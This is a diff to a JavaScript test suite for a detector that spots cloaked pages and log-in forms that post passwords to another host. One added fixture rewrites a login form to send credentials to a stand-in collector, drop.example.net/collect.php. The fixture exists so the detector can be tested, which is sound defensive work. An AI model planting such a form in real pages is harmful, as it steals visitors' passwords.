@@ -16,6 +16,25 @@ describe("what a page shows to another visitor", () => {
     ["nothing there", at(seen.url, "<title>Not found</title>", 404), "status 404"],
     ["a shop", at(seen.url, "<title>Flowers</title><p>Tulips</p>"), "a page that asks for no password"],
   ])("is %s", (_what, other, words) => {
-    expect(differenceOf(seen, other)).toBe(words);
+    expect(differenceOf(seen, other)).toEqual({ cloaking: words, hiddenCollector: null });
+  });
+
+  const collecting = LOGIN.replace("<form", '<form action="https://drop.example.net/collect.php"');
+  it.each([
+    ["a page without a form", "<title>Flowers</title><p>Tulips</p>"],
+    ["a log-in of its own", LOGIN],
+  ])("is a log-in that posts elsewhere, where this one is %s", (_what, html) => {
+    expect(differenceOf(at(seen.url, html), at(seen.url, collecting))).toEqual({
+      cloaking: "a page that posts passwords to drop.example.net",
+      hiddenCollector: "drop.example.net",
+    });
+    expect(differenceOf(at(seen.url, collecting), at(seen.url, collecting)).hiddenCollector).toBeNull();
+  });
+
+  it("is nothing where neither asks for a password", () => {
+    const nothing = { cloaking: null, hiddenCollector: null };
+    expect(differenceOf(at(seen.url, "<p>Tulips</p>"), at("https://www.example.org/", "<p>Roses</p>"))).toEqual(
+      nothing,
+    );
   });
 });
